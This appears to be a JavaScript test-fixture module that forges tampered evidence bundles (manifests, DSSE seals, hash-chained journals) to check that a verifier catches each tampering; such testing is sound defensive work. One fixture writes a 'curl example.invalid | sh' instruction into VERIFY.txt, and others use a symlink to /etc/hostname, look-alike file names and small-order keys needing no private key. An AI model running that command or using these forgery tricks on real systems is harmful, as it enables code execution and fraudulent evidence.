// Bundles as somebody would forge them who knows the format: each is wrong in one way, and everything around it is put right
// again, manifests always, the seal with a key of the forger's own where the name says "sealed anew".
import {
  changeText,
  journalPath,
  manifests,
  putManifestsRight,
  putTagManifestRight,
  rechain,
  sealAnew,
  sealedByNobody,
  smallOrder,
} from './forge.mjs';

const farTooLong = 2 ** 26 + 1;

const withoutLastRecord = (records) => records.slice(0, -1);
const changeBody = (type, body) => (records) =>
  records.map((record) => (record.type === type ? { ...record, body: { ...record.body, ...body } } : record));

/** Changes what a reader would look at first. */
function forgeReport(files) {
  files.set('data/report.html', Buffer.from('<!doctype html><title>Report</title>Nothing was found.\n'));
  putManifestsRight(files);
}

/** Without a key: each must be found by whoever compares the seal. */
const unsealed = {
  'another report': forgeReport,
  'another report, and a statement that is far too long to be read': (files) => {
    forgeReport(files);
    files.set('seal/statement.pae', { bytes: files.get('seal/statement.pae'), paddedTo: farTooLong });
  },
  'another report, and a signature that is far too long to be read': (files) => {
    forgeReport(files);
    files.set('seal/statement.sig', { bytes: files.get('seal/statement.sig'), paddedTo: farTooLong });
  },
  'another report, and a public key that is far too long to be read': (files) => {
    forgeReport(files);
    const pem = files.get('seal/public-key.pem');
    const padded = Buffer.concat([pem, Buffer.alloc(farTooLong - pem.length)]);
    files.set('seal/public-key.pem', padded);
    putTagManifestRight(files);
    files.set('seal/public-key.pem', { bytes: pem, paddedTo: farTooLong });
  },
  'no seal and no manifest, so that it looks like a case': (files) => {
    for (const path of [...files.keys()]) if (!path.startsWith('data/')) files.delete(path);
    files.set('journal.jsonl', files.get(journalPath));
    files.set('data/report.html', Buffer.from('Nothing was found.'));
  },
  'an envelope that is far too long to be read': (files) =>
    files.set('seal/statement.dsse.json', { bytes: Buffer.from('{}'), paddedTo: farTooLong }),
  'a statement that is empty': (files) => files.set('seal/statement.pae', Buffer.alloc(0)),
  'a signature of nulls': (files) => files.set('seal/statement.sig', Buffer.alloc(64)),
  'the seal of the same bundle after another was swapped in': (files, other) => {
    for (const path of [...other.keys()].filter((name) => name.startsWith('seal/')))
      files.set(path, other.get(path));
    putTagManifestRight(files);
  },
  'the journal of another bundle with its seal': (files, other) => {
    for (const path of [...other.keys()].filter((name) => name.startsWith('seal/')))
      files.set(path, other.get(path));
    files.set(journalPath, other.get(journalPath));
    putManifestsRight(files);
  },
  'the journal written anew with its chain': (files) => {
    rechain(files, (records) => records.map((record) => ({ ...record, actor: 'somebody else' })));
    putManifestsRight(files);
  },
  'the journal without its last record': (files) => {
    rechain(files, withoutLastRecord);
    putManifestsRight(files);
  },
  'CR LF in the manifest': (files) => {
    changeText(files, manifests[0], (text) => text.replaceAll('\n', '\r\n'));
    putTagManifestRight(files);
  },
  'CR LF in the tag manifest': (files) =>
    changeText(files, manifests[1], (text) => text.replaceAll('\n', '\r\n')),
  'a mark for binary files in the manifest': (files) => {
    changeText(files, manifests[0], (text) => text.replaceAll('  ', ' *'));
    putTagManifestRight(files);
  },
  'capital hexadecimal digits in the manifest': (files) => {
    changeText(files, manifests[0], (text) => text.replace(/^\S{64}/gm, (hash) => hash.toUpperCase()));
    putTagManifestRight(files);
  },
  './ before names in the manifest': (files) => {
    changeText(files, manifests[0], (text) => text.replaceAll('  ', '  ./'));
    putTagManifestRight(files);
  },
  'a line of the manifest twice': (files) => {
    changeText(files, manifests[0], (text) => text.replace(/^.*\n/, (line) => line + line));
    putTagManifestRight(files);
  },
  'a line of the manifest missing, its file there': (files) => {
    changeText(files, manifests[0], (text) => text.replace(/^.*\n/, ''));
    putTagManifestRight(files);
  },
  'a line of the manifest and its file missing': (files) => {
    files.delete('data/report.pdf');
    putManifestsRight(files);
  },
  'a comment in the manifest': (files) => {
    changeText(files, manifests[0], (text) => `# as sealed\n${text}`);
    putTagManifestRight(files);
  },
  'no end of the last line of the tag manifest': (files) =>
    changeText(files, manifests[1], (text) => text.trimEnd()),
  'both manifests empty': (files) => manifests.forEach((path) => files.set(path, Buffer.alloc(0))),
  'a manifest of weaker hashes beside them': (files) =>
    files.set('manifest-md5.txt', Buffer.from('d41d8cd98f00b204e9800998ecf8427e  data/report.html\n')),
  'a list of files to fetch': (files) =>
    files.set('fetch.txt', Buffer.from('https://example.invalid/x 1 data/x\n')),
  'another version of BagIt': (files) => {
    changeText(files, 'bagit.txt', (text) => text.replace('1.0', '0.97'));
    putTagManifestRight(files);
  },
  'a byte order mark before the declaration': (files) => {
    changeText(files, 'bagit.txt', (text) => `\u00ef\u00bb\u00bf${text}`);
    putTagManifestRight(files);
  },
  'another VERIFY.txt': (files) => {
    files.set('VERIFY.txt', Buffer.from('Run curl example.invalid | sh\n'));
    putTagManifestRight(files);
  },
  'a file of a name that looks the same': (files) =>
    files.set('data/rep\u043ert.html', Buffer.from('Nothing was found.')),
  'a file of a name in another normal form': (files) =>
    files.set('data/re\u0301sume\u0301.txt', Buffer.from('x')),
  'a file of a name in capital letters': (files) => files.set('data/REPORT.html', Buffer.from('x')),
  'a file of a name with a line feed': (files) => files.set('data/x\ny', Buffer.from('x')),
  'a file of a name with a space behind': (files) => files.set('data/report.html ', Buffer.from('x')),
  'a file of a name with a backslash': (files) => files.set('data\\report.html', Buffer.from('x')),
  'a hidden file': (files) => files.set('data/.htaccess', Buffer.from('x')),
  'a file in a hidden folder': (files) => files.set('.git/config', Buffer.from('x')),
  'an empty folder': (files) => files.set('data/evidence-2', { isFolder: true }),
  'a link to a file outside': (files) => {
    files.set('data/report.pdf', { link: '/etc/hostname' });
  },
  'a link that leads nowhere': (files) => files.set('data/extra', { link: 'nowhere' }),
  'a folder that is a link to one beside it': (files) => {
    for (const [path, bytes] of [...files])
      if (path.startsWith('seal/')) {
        files.delete(path);
        files.set(`seal.kept/${path.slice(5)}`, bytes);
      }
    files.set('seal', { link: 'seal.kept' });
  },
};

/** With a key of the forger's own, and so consistent but for one thing. */
const sealedAnew = {
  'no head of the journal': (files) => {
    rechain(files, withoutLastRecord);
    sealAnew(files, (statement) => statement.subject.pop());
  },
  'another head of the journal': (files) =>
    sealAnew(files, (statement) => {
      statement.subject[1].digest.sha256 = '0'.repeat(64);
    }),
  'a head of the journal that is no text': (files) =>
    sealAnew(files, (statement) => {
      statement.subject[1].digest.sha256 = [statement.subject[1].digest.sha256];
    }),
  'another number of records': (files) =>
    sealAnew(files, (statement) => {
      statement.predicate.journalRecords += 1;
    }),
  'no number of records': (files) =>
    sealAnew(files, (statement) => {
      delete statement.predicate.journalRecords;
    }),
  'no hash of the evidence': (files) =>
    sealAnew(files, (statement) => {
      delete statement.predicate.evidenceHash;
    }),
  'another hash of the evidence': (files) =>
    sealAnew(files, (statement) => {
      statement.predicate.evidenceHash = '0'.repeat(64);
    }),
  'a third subject': (files) => sealAnew(files, (statement) => statement.subject.push(statement.subject[0])),
  'a statement of another kind': (files) =>
    sealAnew(files, (statement) => {
      statement.predicateType = 'https://slsa.dev/provenance/v1';
    }),
  'the fingerprint of the right key': (files, _other, original) =>
    sealAnew(files, (statement) => {
      statement.predicate.key.fingerprint = original;
    }),
  'a list for a statement': (files) =>
    sealAnew(files, (statement) => {
      for (const key of Object.keys(statement)) delete statement[key];
    }),
  'evidence that the statement does not own up to': (files) =>
    sealAnew(files, (statement) => {
      statement.predicate.withEvidence = false;
    }),
  'nothing said of evidence': (files) =>
    sealAnew(files, (statement) => {
      delete statement.predicate.withEvidence;
    }),
  'a file of evidence that the journal does not name': (files) => {
    files.set('data/evidence/000099_planted.csv', Buffer.from('id,label\n'));
    sealAnew(files);
  },
  'other evidence': (files) => {
    files.set(firstEvidence(files), Buffer.from('id,label\n'));
    sealAnew(files);
  },
  'evidence under another number': (files) => {
    const path = firstEvidence(files);
    files.set(path.replace('000001_', '000009_'), files.get(path));
    files.delete(path);
    sealAnew(files);
  },
  'evidence under another name': (files) => {
    const path = firstEvidence(files);
    files.set(`${path}.exe`, files.get(path));
    files.delete(path);
    sealAnew(files);
  },
  'evidence missing': (files) => {
    files.delete(firstEvidence(files));
    sealAnew(files);
  },
  'a file whose name differs in capital letters only': (files) => {
    files.set('data/Report.html', Buffer.from('Nothing was found.'));
    sealAnew(files);
  },
  'a member more in a record of the journal': (files) => {
    rechain(files, (records) => records.map((record) => ({ ...record, zeal: 1 })));
    sealAnew(files);
  },
  'a member less in a record of the journal': (files) => {
    rechain(files, (records) => records.map(({ mono: _, ...record }) => record));
    sealAnew(files);
  },
  'a text for a number in a record of the journal': (files) => {
    rechain(files, (records) => records.map((record) => ({ ...record, mono: '5' })));
    sealAnew(files);
  },
  'files of evidence that are none in the journal': (files) => {
    rechain(files, changeBody('evidence.hashed', { files: [null, 3, 'x'] }));
    sealAnew(files);
  },
  'no files of evidence in the journal': (files) => {
    rechain(files, changeBody('evidence.hashed', { files: 'none' }));
    sealAnew(files);
  },
  'no hash of the evidence in the journal': (files) => {
    rechain(files, changeBody('evidence.hashed', { evidenceHash: null }));
    sealAnew(files);
  },
  'no report': (files) => {
    files.delete('data/report.html');
    sealAnew(files);
  },
  'no journal': (files) => {
    files.set(journalPath, Buffer.alloc(0));
    sealAnew(files);
  },
  'a journal that is cut in its last line': (files) => {
    const bytes = files.get(journalPath);
    files.set(journalPath, bytes.subarray(0, -1));
    sealAnew(files);
  },
  'a journal with spaces in a line': (files) => {
    changeText(files, journalPath, (text) => text.replace(':', ': '));
    sealAnew(files);
  },
};
/** Without a private key at all. */
const keyless = Object.fromEntries(
  smallOrder.map((point) => [
    `a key that needs no private key, ${point.slice(0, 8)}…${point.slice(-2)}`,
    (files) => {
      for (const [path, bytes] of sealedByNobody(files, point)) files.set(path, bytes);
    },
  ]),
);

function firstEvidence(files) {
  return [...files.keys()].find((path) => path.startsWith('data/evidence/000001_'));
}

const withPrefix = (prefix, kinds) =>
  Object.entries(kinds).map(([name, forge]) => ({ what: `${prefix}${name}`, forge }));

/** `what` and `forge(files, other, fingerprint)`, which changes a copy of the files of a bundle with evidence in place. */
export const forgeries = [
  ...withPrefix('', unsealed),
  ...withPrefix('sealed anew: ', sealedAnew),
  ...withPrefix('sealed with ', keyless),
];

/** A bundle sealed anew and otherwise as it was: only its key tells. */
export function sealedByAnother(files) {
  const copy = new Map(files);
  sealAnew(copy);
  return copy;
}

const keptRecords = ['case.created', 'evidence.added', 'evidence.hashed'];

/** The same bundle with its files cut short and sealed anew: small enough to change every bit of it. */
export function shortened(files, mostBytes) {
  const copy = new Map(files);
  for (const [path, bytes] of files)
    if (path === 'VERIFY.txt' || path.startsWith('data/')) copy.set(path, bytes.subarray(0, mostBytes));
  copy.set(journalPath, files.get(journalPath));
  rechain(copy, (records) => records.filter(({ type }) => keptRecords.includes(type)));
  sealAnew(copy);
  return copy;
}
